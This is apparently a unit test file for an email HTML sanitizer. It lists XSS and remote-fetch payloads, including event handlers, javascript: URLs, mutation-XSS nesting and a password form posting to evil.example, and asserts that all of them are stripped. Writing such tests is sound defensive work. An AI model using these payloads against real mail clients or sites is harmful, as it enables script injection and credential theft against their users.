import { cleanHtml } from './clean-html.js';

describe('HTML of a mail', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=password><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>@import url(https://evil.example)</style>',
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<div style="position:fixed;top:0;width:100%;height:100%">x</div>',
    '<p style="color:expression(alert(1))">x</p>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<input autofocus onfocus=alert(1)>',
    '<video poster="https://evil.example/x"><source src="https://evil.example"></video>',
    '<body background="https://evil.example/x" onload=alert(1)>x</body>',
    '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
    '<a href="//evil.example">x</a>',
    '<p/onmouseover=alert(1)>x',
  ])('runs nothing and fetches nothing: %s', (html) => {
    const clean = cleanHtml(html);
    expect(clean).not.toMatch(
      /<(script|iframe|form|input|button|meta|base|link|style|object|embed|svg|math|video|source|noscript)|\son\w+\s*=|javascript:|data:text|url\(|expression|position|[^-]src=|background=|href="\/\//i,
    );
    expect(clean).not.toContain('alert(1)</script');
  });

  it('keeps the address of a picture from elsewhere, without fetching it', () => {
    expect(cleanHtml('<img src="https://shop.example/pixel.gif" width="1" alt="logo">')).toBe(
      '<img alt="logo" width="1" data-remote-src="https://shop.example/pixel.gif" />',
    );
  });

  it('names the file for a picture that came with the mail', () => {
    expect(cleanHtml('<img src="cid:part1.0%40example">')).toBe('<img alt="" data-content-id="part1.0@example" />');
  });

  it('keeps what makes it readable, and opens links apart', () => {
    expect(cleanHtml('<p style="color:red">洗衣机<b>漏水</b></p><ul><li>1</li></ul>')).toBe(
      '<p style="color:red">洗衣机<b>漏水</b></p><ul><li>1</li></ul>',
    );
    expect(cleanHtml('<a href="https://shop.example">order</a>')).toBe(
      '<a href="https://shop.example" rel="noopener noreferrer nofollow" target="_blank">order</a>',
    );
  });

  it('is refused beyond a depth that no mail has', () => {
    expect(cleanHtml('<div>'.repeat(50_000)).length).toBeLessThan(10_000);
  });
});
